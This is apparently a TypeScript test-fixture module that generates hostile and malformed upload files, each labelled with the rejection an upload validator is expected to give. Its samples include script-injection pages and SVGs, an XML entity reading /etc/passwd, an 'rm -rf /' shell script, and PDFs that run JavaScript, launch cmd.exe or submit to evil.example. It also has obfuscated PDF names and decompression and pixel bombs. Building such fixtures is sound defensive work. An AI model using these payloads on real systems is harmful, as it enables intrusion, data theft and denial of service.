import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

const text = (value: string) => new Uint8Array(Buffer.from(value, 'latin1'));
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** A picture of one colour. */
export async function picture(type: 'jpeg' | 'png' | 'webp', width = 64, height = 48): Promise<Uint8Array<ArrayBuffer>> {
  const made = sharp({ create: { width, height, channels: 3, background: '#36c' } });
  return new Uint8Array(await made.toFormat(type).toBuffer());
}

/** A paper of so many pages; `inside` stands in its catalogue. */
export function paper(inside = '', pages = 1): Uint8Array<ArrayBuffer> {
  const all = Array.from({ length: pages }, (_, at) => `${at + 3} 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj`).join(
    '\n',
  );
  const kids = Array.from({ length: pages }, (_, at) => `${at + 3} 0 R`).join(' ');
  return text(
    `%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R ${inside}>> endobj\n2 0 obj <</Type /Pages /Kids [${kids}] /Count ${pages}>> endobj\n${all}\n` +
      `trailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
  );
}

/** A paper with an object that is kept compressed. */
export function compressedPaper(object: Uint8Array, kind = '/ObjStm'): Uint8Array<ArrayBuffer> {
  const packed = deflateSync(object, { level: 9 });
  const head = `%PDF-1.7\n1 0 obj <</Type ${kind} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}>>\nstream\n`;
  return joined(text(head), packed, text('\nendstream endobj\nstartxref\n9\n%%EOF\n'));
}

/** A PNG that says it is larger than it is: its rows would take gigabytes. */
function pngOf(width: number, height: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(1 << 20), { level: 9 });
  return joined(text('\x89PNG\r\n\x1a\n'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)));
}

function crc(bytes: Uint8Array): number {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return ~sum >>> 0;
}

/** What people with bad intent send, and what is said to each; the name says what it is. */
export async function hostileFiles(): Promise<[name: string, bytes: Uint8Array<ArrayBuffer>, fault: string][]> {
  const jpeg = await picture('jpeg');
  const png = await picture('png');
  const packed = compressedPaper(text('9 0 <<>>'));
  const garbled = packed.with(Buffer.from(packed).indexOf('stream\n') + 'stream\n'.length, 7);
  return [
    ['nothing', text(''), 'empty'],
    ['a web page', text('<!doctype html><script>alert(1)</script>'), 'wrong-type'],
    ['a picture that runs scripts (SVG)', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'wrong-type'],
    ['the same, with a mark of its encoding', text('\xef\xbb\xbf<?xml version="1.0"?><svg/>'), 'wrong-type'],
    ['an XML with entities', text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), 'wrong-type'],
    ['a script of the shell', text('#!/bin/sh\nrm -rf /\n'), 'wrong-type'],
    ['a program for Windows', text('MZ\x90\0\x03\0\0\0'), 'wrong-type'],
    ['a program for Linux', text('\x7fELF\x02\x01\x01'), 'wrong-type'],
    ['a class of Java', text('\xca\xfe\xba\xbe\0\0\0\x34'), 'wrong-type'],
    ['WebAssembly', text('\0asm\x01\0\0\0'), 'wrong-type'],
    ['an archive', text('PK\x03\x04\x14\0\0\0\x08\0'), 'wrong-type'],
    ['a document of Office', text('PK\x03\x04\x14\0\x06\0[Content_Types].xml'), 'wrong-type'],
    ['an old document of Office', text('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), 'wrong-type'],
    ['a tarball', text('\x1f\x8b\x08\0\0\0\0\0\0\x03'), 'wrong-type'],
    ['a 7z', text("7z\xbc\xaf'\x1c\0\x04"), 'wrong-type'],
    ['a RAR', text('Rar!\x1a\x07\x01\0'), 'wrong-type'],
    ['a GIF', text('GIF89a\x01\0\x01\0'), 'wrong-type'],
    ['a BMP', text('BM\x46\0\0\0'), 'wrong-type'],
    ['a TIFF', text('II*\0\x08\0\0\0'), 'wrong-type'],
    ['an icon', text('\0\0\x01\0\x01\0\x10\x10'), 'wrong-type'],
    ['a film', text('\0\0\0\x18ftypmp42\0\0\0\0'), 'wrong-type'],
    ['a sound', text('ID3\x03\0\0\0\0\0\x21'), 'wrong-type'],
    ['PostScript', text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'), 'wrong-type'],
    ['words', text('これは写真です。'), 'wrong-type'],
    ['zeros', new Uint8Array(4096), 'wrong-type'],
    ['a photo of a new phone', text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), 'photo-format'],
    ['an AVIF', text('\0\0\0\x1cftypavif\0\0\0\0avifmif1'), 'photo-format'],
    ['the first bytes of a JPEG and then a page', joined(text('\xff\xd8\xff\xe0'), text('<script>alert(1)</script>')), 'damaged'],
    ['the first bytes of a PNG and then a program', joined(text('\x89PNG\r\n\x1a\n'), text('MZ\x90\0')), 'damaged'],
    ['a WebP of nothing', text('RIFF\x04\0\0\0WEBP'), 'damaged'],
    ['half a JPEG', jpeg.slice(0, jpeg.length / 2), 'damaged'],
    ['half a PNG', png.slice(0, png.length / 2), 'damaged'],
    ['a picture of a billion pixels', pngOf(40_000, 30_000), 'too-many-pixels'],
    ['a picture that is all width', pngOf(2_000_000, 150), 'too-many-pixels'],
    ['a picture of no size', pngOf(0, 0), 'damaged'],
    ['half a PDF', paper().slice(0, 60), 'damaged'],
    ['a PDF with a script', paper('/OpenAction <</S /JavaScript /JS (app.alert(1))>>'), 'active'],
    ['the same, its name written in numbers', paper('/OpenAction <</S /J#61vaScript /J#53 (app.alert(1))>>'), 'active'],
    ['a PDF that starts a program', paper('/OpenAction <</S /Launch /F (cmd.exe)>>'), 'active'],
    ['a PDF with files inside', paper('/Names <</EmbeddedFiles 9 0 R>>'), 'active'],
    ['a PDF that sends itself', paper('/AA <</O <</S /SubmitForm /F (https://evil.example)>>>>'), 'active'],
    ['a PDF with a form of another kind inside', paper('/AcroForm <</XFA 9 0 R>>'), 'active'],
    ['a PDF whose script is compressed', compressedPaper(text('9 0 <</S /JavaScript /JS (app.alert(1))>>')), 'active'],
    ['the same, its kind written in numbers', compressedPaper(text('9 0 <</S /JavaScript /JS (app.alert(1))>>'), '/Obj#53tm'), 'active'],
    ['a PDF with an object that cannot be looked into', garbled, 'damaged'],
    [
      'a PDF that is all brackets',
      joined(text(`%PDF-1.7\n<<${'<a>'.repeat(4_000_000)}`), text('\nendstream /Encrypt\nstartxref\n9\n%%EOF\n')),
      'locked',
    ],
    [
      'a PDF that is all streams',
      joined(text(`%PDF-1.7\n${'stream '.repeat(2_000_000)}`), text('\n/Encrypt\nstartxref\n9\n%%EOF\n')),
      'locked',
    ],
    ['a PDF that becomes a thousand times as much', compressedPaper(new Uint8Array(80 * 1024 * 1024)), 'damaged'],
    ['a locked PDF', paper('/Encrypt 9 0 R'), 'locked'],
    ['a book', paper('', 61), 'too-many-pages'],
  ];
}
